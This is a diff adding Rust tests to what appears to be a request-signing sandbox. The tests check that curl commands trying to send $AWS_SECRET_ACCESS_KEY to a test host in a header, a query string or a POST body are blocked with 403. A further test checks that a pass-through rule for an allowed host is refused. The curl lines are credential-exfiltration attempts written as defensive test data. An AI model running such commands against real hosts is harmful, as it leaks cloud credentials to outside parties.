@@ -297,9 +297,32 @@ for method, path, query, body in [('GET', '/b/a%20b', 'list=1&prefix=x', b''), (
         assert_eq!(came, expected.lines().collect::<Vec<_>>(), "{who:?}");
         let word = std::fs::read_to_string(world.project().join("word")).unwrap();
         assert!(word != KEY && server.seen().iter().all(|request| !request.head.contains(KEY)));
+        // What signs is not sent, wherever the word stands.
+        for place in [
+            "-H \"x-note: $AWS_SECRET_ACCESS_KEY\" https://site.test/b/e",
+            "https://site.test/b?k=$AWS_SECRET_ACCESS_KEY",
+            "-d k=$AWS_SECRET_ACCESS_KEY https://site.test/b/e",
+        ] {
+            let script = format!("curl -sS -o /dev/null -w '%{{http_code}}' {place}");
+            let said = world.run_having(&had, &lent, &script).ok();
+            assert_eq!((said.out.as_str(), server.seen().len()), ("403", 2), "{who:?} {place} {}", said.err);
+        }
         // What is signed piece by piece cannot be signed again, and goes nowhere.
         let script = "curl -sS -o /dev/null -w '%{http_code}' -H \"Authorization: AWS4-HMAC-SHA256 Credential=$AWS_ACCESS_KEY_ID/20260115/eu-west-1/s3/aws4_request, SignedHeaders=host;x-amz-date, Signature=0\" -H 'x-amz-date: 20260115T101500Z' -H 'x-amz-content-sha256: STREAMING-AWS4-HMAC-SHA256-PAYLOAD' -X PUT -d x https://site.test/b/d";
         let said = world.run_having(&had, &lent, script).ok();
         assert_eq!((said.out.as_str(), server.seen().len()), ("403", 2), "{who:?} {}", said.err);
     }
+}
+
+#[test]
+fn egr_13_a_host_that_is_allowed_besides_is_looked_into_for_what_is_lent() {
+    let world = World::new(EVERYONE[0]);
+    let server = world.https(PUBLIC, &["site.test"]);
+    let script = "curl -fsS -H \"x-key: $MY_KEY\" https://site.test/ >/dev/null";
+    run(&world, &["--allow", "site.test"], script).ok();
+    assert_eq!(server.seen()[0].field("x-key"), Some(SECRET));
+    world.file("pass.toml", "[[rule]]\nhost = \"site.test\"\naccess = \"pass\"\n");
+    let said = run(&world, &["--rules", "pass.toml"], "true");
+    assert_eq!(said.code, Some(125), "{}", said.err);
+    said.tells("no secret can be put in there");
 }
